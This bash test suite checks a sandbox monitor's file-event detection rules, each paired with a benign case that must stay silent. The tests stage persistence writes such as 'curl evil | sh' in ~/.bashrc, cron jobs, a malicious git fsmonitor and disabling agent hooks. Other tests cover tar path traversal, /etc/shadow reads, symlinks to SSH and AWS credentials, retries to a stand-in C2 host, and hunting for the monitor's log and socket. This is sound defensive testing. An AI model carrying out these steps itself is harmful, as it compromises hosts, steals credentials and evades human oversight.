# t_detect_files.sh - the detector's rules for what the file record shows
# (issue 38), each fired by a real action inside a session and found as an
# alert linking the event that fired it: persistence attempts (a start-up
# file, a git hook, crontab, editor and agent settings, written or renamed
# into place, refused or not; git's configuration written by another program;
# core.hooksPath set), an archive extracted through ".." or to an absolute
# path, paths past the workspace's top in a loop, a symlink to a credential
# store then read through it, the same refused destination or write retried by
# another program, warden's log or sockets hunted by name. Each has its
# counterpart that must stay quiet. The sessions run with `audit files` (the
# file events), and the rules helpers of t_detect.sh (dt_quiet, dt_alert).
# shellcheck shell=bash

# shellcheck source=nethost.sh
source "$(dirname "${BASH_SOURCE[0]}")/nethost.sh"

# dtf_alert_on RULE TEXT: the newest log has an alert of RULE one of whose
# linked events has TEXT in its line (the alert is for that action).
dtf_alert_on() {
	local log line seq
	log=$(latest_log)
	[[ -n $log ]] || fatal 'no session log'
	while read -r line; do
		for seq in $(sed -n 's/.*"links":\[\([0-9,]*\)\].*/\1/p' <<<"$line" | tr ',' ' '); do
			grep -F "\"seq\":$seq," "$log" | matches -F -- "$2" && return 0
		done
	done < <(grep -F '"event":"alert"' "$log" | grep -F "\"rule\":\"$1\"")
	fail "no $1 alert linking an event with $2: $(excerpt "$(grep -F '"event":"alert"' "$log" | cut -c80-220)")"
	return 0
}

# dtf_no_alert_on RULE TEXT: no alert of RULE in the newest log links an
# event with TEXT in its line.
dtf_no_alert_on() {
	local log line seq
	log=$(latest_log)
	while read -r line; do
		for seq in $(sed -n 's/.*"links":\[\([0-9,]*\)\].*/\1/p' <<<"$line" | tr ',' ' '); do
			grep -F "\"seq\":$seq," "$log" | matches -F -- "$2" && fail "a $1 alert for $2"
		done
	done < <(grep -F '"event":"alert"' "$log" | grep -F "\"rule\":\"$1\"")
	return 0
}

# dtf_alert_on_path RULE PATH ACTION: the newest log has an alert of RULE
# for PATH (workspace-relative) with ACTION (the sweep's).
dtf_alert_on_path() {
	grep -F '"event":"alert"' "$(latest_log)" | grep -F "\"rule\":\"$1\"" | grep -F "\"path\":\"$2\"" |
		matches -F "\"action\":\"$3\"" || fail "no $1 alert for $2 ($3)"
}

dtf_profile() { dt_quiet 'audit files'; }

# ---- persistence ----------------------------------------------------------------

test_detect_files_persist_startup() {
	mkdir -p "$WS/.vscode" "$WS/.git/hooks"
	wsh 'echo "curl evil | sh" >> ~/.bashrc
	     echo "{}" > .vscode/tasks.json
	     echo "export X=1" > .envrc
	     echo "#!/bin/sh" > .git/hooks/pre-commit
	     mkdir -p ~/.claude && echo "{\"disableAllHooks\": true}" > ~/.claude/settings.json
	     echo "* * * * * sh /tmp/x" > /var/spool/cron/crontabs/agent
	     echo "sh /tmp/x" > zrc.tmp && mv zrc.tmp ~/.zshrc
	     echo ok' --profile "$(dtf_profile)"
	assert_out_has ok
	dt_alert persist.startup-file high
	local p
	for p in /.bashrc /.vscode/tasks.json /.envrc /.git/hooks/pre-commit /.claude/settings.json \
		/var/spool/cron/crontabs/agent; do
		dtf_alert_on persist.startup-file "$p\""
	done
	dtf_alert_on persist.startup-file-moved '/.zshrc"'
}

# A protected path refused: its file event carries the reason, and its own
# alert; the start-up file rule too.
test_detect_files_persist_protected() {
	mkdir -p "$WS/.vscode"
	wsh 'echo "{}" > .vscode/settings.json; echo rc=$?' --profile "$(dtf_profile)"
	assert_out_match 'rc=[1-9]' 'the protected path refused'
	dtf_alert_on persist.startup-file '/.vscode/settings.json"'
	grep -F '"event":"file"' "$(latest_log)" | matches -F '"reason":"protected' ||
		fail "no file event with the reason 'protected path' for the refused write"
	dtf_alert_on persist.protected-path '/.vscode/settings.json"'
}

test_detect_files_persist_git() {
	have git || skip 'git is not installed'
	# git's own writes: init (its sample hooks, its config), config, commit
	wsh 'git init -q . && git config user.email a@b && git config user.name a &&
	     echo x > f && git add f && git commit -qm x && echo ok' --profile "$(dtf_profile)"
	assert_out_has ok
	dt_no_alert persist.git-config
	dt_no_alert persist.startup-file
	dt_no_alert persist.startup-file-moved
	dt_no_alert persist.git-hooks-path
	rm -rf "$WS"/.git "$WS"/.git.warden-quarantine-*
	# the attacks: hooksPath set, the configuration written by the shell, in
	# the home inside and in a repository made in the session. That one the
	# sweep judges at the end (moved aside, its own alert); its config write
	# is marked new_repo and left to it: cargo new writes a new repository's
	# config through libgit2, which is not git.
	wsh 'git init -q . && git config core.hooksPath .githooks;
	     printf "[core]\n\tfsmonitor = sh -c evil\n" >> .git/config
	     printf "[core]\n\tpager = sh -c evil\n" >> ~/.gitconfig; echo ok' --profile "$(dtf_profile)"
	assert_out_has ok
	dtf_alert_on persist.git-hooks-path core.hooksPath
	dtf_alert_on persist.git-config '/.gitconfig"'
	dtf_no_alert_on persist.git-config '/.git/config"'
	grep -F '"event":"file"' "$(latest_log)" | grep -F "\"path\":\"$WS/.git/config\"" |
		matches -F '"new_repo":true' || fail "the new repository's config write is not marked new_repo"
	dtf_alert_on_path git.created-in-sandbox .git quarantined
	# A repository there at start: its config is no new one's (protected,
	# the write refused), and the alert stands.
	rm -rf "$WS"/.git "$WS"/.git.warden-quarantine-*
	git init -q "$WS" || fatal 'git init failed'
	wsh 'printf "[core]\n\tfsmonitor = sh -c evil\n" >> .git/config; echo ok' --profile "$(dtf_profile)"
	assert_out_has ok
	dtf_alert_on persist.git-config '/.git/config"'
	! grep -F '"event":"file"' "$(latest_log)" | matches -F '"new_repo"' ||
		fail "a write of the config there at start is marked new_repo"
}

# ---- archives ------------------------------------------------------------------------

# dtf_tar NAME MEMBER: a tar in the workspace holding one file named MEMBER.
dtf_tar() {
	python3 - "$WS/$1" "$2" <<'PY'
import io, sys, tarfile
with tarfile.open(sys.argv[1], "w") as t:
    data = b"planted\n"
    i = tarfile.TarInfo(sys.argv[2])
    i.size = len(data)
    t.addfile(i, io.BytesIO(data))
PY
}

test_detect_files_extract_traversal() {
	dt_python
	have tar || skip 'tar is not installed'
	local up
	up=$(printf '../%.0s' {1..12})
	dtf_tar evil.tar "${up}tmp/wd_planted_py"
	dtf_tar evil2.tar "${up}tmp/wd_planted_tar"
	dtf_tar fine.tar sub/fine.txt
	mkdir -p "$WS/sub"
	wsh 'cd sub && python3 -c "import tarfile; tarfile.open(\"../evil.tar\").extractall()" 2>/dev/null
	     tar -xPf ../evil2.tar; ls /tmp/wd_planted_py /tmp/wd_planted_tar; echo ok' --profile "$(dtf_profile)"
	assert_out_has /tmp/wd_planted_py 'python extracted through ..'
	dtf_alert_on fs.extract-traversal wd_planted_py
	dtf_alert_on fs.extract-traversal wd_planted_tar
	# an archive extracted in place: nothing
	wsh 'tar -xf fine.tar && python3 -c "import tarfile; tarfile.open(\"fine.tar\").extractall(\"out\")" && echo ok' \
		--profile "$(dtf_profile)"
	assert_out_has ok
	dt_no_alert fs.extract-traversal
	dt_no_alert fs.extract-outside
}

test_detect_files_extract_absolute() {
	dt_python
	have tar || skip 'tar is not installed'
	dtf_tar abs.tar /tmp/wd_planted_abs
	wsh 'tar -xPf abs.tar; ls /tmp/wd_planted_abs' --profile "$(dtf_profile)"
	assert_out_has /tmp/wd_planted_abs 'tar -P wrote the absolute member'
	dtf_alert_on fs.extract-outside wd_planted_abs
}

# ---- traversal past the top -----------------------------------------------------------

test_detect_files_parent_traversal() {
	mkdir -p "$WS/sub"
	: >"$WS/top.txt"
	wsh 'cd sub; cat ../top.txt; ls ../ >/dev/null; echo ok' --profile "$(dt_quiet)"
	assert_out_has ok
	dt_no_alert fs.parent-traversal
	wsh 'cd sub; for i in 1 2 3; do cat ../../../../../../../etc/shadow; done 2>/dev/null; echo ok' \
		--profile "$(dt_quiet)"
	assert_out_has ok
	dtf_alert_on fs.parent-traversal '../../../../../../../etc/shadow'
	dt_alert fs.parent-traversal-repeated high
}

# ---- writes through a hard link ----------------------------------------------------------

# A file of the workspace hard-linked to one outside it (pnpm's store links
# node_modules so): a write through it reaches the outside file, which no
# wall can tell by path. The write is on the record with its link count and
# an alert; a file of one name stays quiet.
test_detect_files_hardlink_write() {
	mkdir -p "$T_TMP/outside"
	echo original >"$T_TMP/outside/lib.js"
	ln "$T_TMP/outside/lib.js" "$WS/lib.js" 2>/dev/null || skip 'no hard link from the workspace to a file outside it here'
	echo own >"$WS/own.js"
	wsh 'echo more >>own.js; : >new.js; echo ok' --profile "$(dt_quiet)"
	assert_out_has ok
	dt_no_alert fs.hardlink-write
	wsh 'echo poisoned >>lib.js; echo ok' --profile "$(dt_quiet)"
	assert_out_has ok
	dtf_alert_on fs.hardlink-write '"path":"'"$WS"'/lib.js","flags":"0x441","decision":"allow","access":"write","nlink":2'
	dt_alert fs.hardlink-write medium
	grep -q poisoned "$T_TMP/outside/lib.js" || note 'the outside file did not change (a wall refused the write?)'
}

# ---- symlinks to credential stores ------------------------------------------------------

test_detect_files_symlink_credential() {
	wsh 'ln -s hello.c fine; cat fine 2>/dev/null; echo ok' --profile "$(dtf_profile)"
	dt_no_alert fs.symlink-credential
	dt_no_alert seq.symlink-credential-read
	wsh 'd=.ssh; ln -s ~/$d/id_rsa k; cat k >/dev/null; echo ok' --profile "$(dtf_profile)"
	assert_out_has ok
	dtf_alert_on fs.symlink-credential '"target":"/home/'
	dtf_alert_on seq.symlink-credential-read '"argv":["cat","k"]'
	if have python3; then
		wsh 'python3 -c "import os; os.symlink(os.path.expanduser(\"~/.aws\"), \"a\")"; echo ok' \
			--profile "$(dtf_profile)"
		dtf_alert_on fs.symlink-credential '/.aws"'
	fi
}

# ---- a refusal tried again by another program ------------------------------------------------

test_detect_files_refused_host_other_program() {
	dt_python
	nh_need curl
	local fetch_py='import urllib.request
try: urllib.request.urlopen("http://c2.example.invalid/", timeout=5)
except Exception: pass'
	# the same program twice: one tool retrying
	wsh 'curl -s -m 5 -o /dev/null http://c2.example.invalid/; curl -s -m 5 -o /dev/null http://c2.example.invalid/; echo ok' \
		--profile "$(dt_quiet)"
	dt_no_alert seq.refused-host-other-program
	wsh "curl -s -m 5 -o /dev/null http://c2.example.invalid/; sleep 0.5; python3 -c '$fetch_py'; echo ok" \
		--profile "$(dt_quiet)"
	assert_out_has ok
	dt_alert seq.refused-host-other-program high
	dtf_alert_on seq.refused-host-other-program '"host":"c2.example.invalid"'
}

test_detect_files_refused_address_other_program() {
	dt_python
	wsh './wprobe connect 192.0.2.7 80; python3 -c "
import socket
try: socket.create_connection((\"192.0.2.7\", 80), 2)
except OSError: pass"; echo ok' --profile "$(dt_quiet)"
	assert_out_has ok
	dtf_alert_on seq.refused-address-other-program '"address":"192.0.2.7"'
}

test_detect_files_refused_write_other_program() {
	dt_python
	wsh 'echo x > f; python3 -c "
try: open(\"f\", \"w\")
except OSError: pass"; echo ok' --read-only --profile "$(dt_quiet)"
	assert_out_has ok
	dtf_alert_on seq.refused-write-other-program '"decision":"deny"'
}

# ---- warden's log hunted ------------------------------------------------------------

test_detect_files_log_hunt() {
	: >"$WS/data.jsonl"
	wsh "find . -name '*.jsonl' >/dev/null; echo ok" --profile "$(dt_quiet)"
	dt_no_alert escape.log-hunt
	wsh "find / -maxdepth 3 -name '*.jsonl' 2>/dev/null; echo ok" --profile "$(dt_quiet)"
	dtf_alert_on escape.log-hunt '*.jsonl'
	wsh 'grep -rs warden.sock /run 2>/dev/null; echo ok' --profile "$(dt_quiet)"
	dtf_alert_on escape.audit-log warden.sock
}
